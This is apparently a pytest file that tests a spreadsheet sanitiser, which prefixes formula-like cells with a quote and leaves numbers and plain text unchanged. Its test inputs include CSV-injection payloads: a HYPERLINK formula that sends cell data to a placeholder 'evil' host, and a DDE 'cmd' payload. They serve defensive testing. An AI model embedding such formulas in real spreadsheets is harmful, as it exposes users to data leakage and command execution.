"""Formula cells are neutralised the OWASP way (a leading single quote); numbers stay numbers."""

from __future__ import annotations

import pytest

from modelyard.spreadsheet import safe_cell


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        "-",
        "=",
        "-inf",
    ],
)
def test_formula_cells_get_a_quote(dangerous: str) -> None:
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize(
    "kept", ["-1.5", "+3", "-2e-05", "-.5", "1,5", "a=b", "None", "", 3, -1.5, None]
)
def test_numbers_and_plain_text_are_kept(kept: object) -> None:
    assert safe_cell(kept) == kept
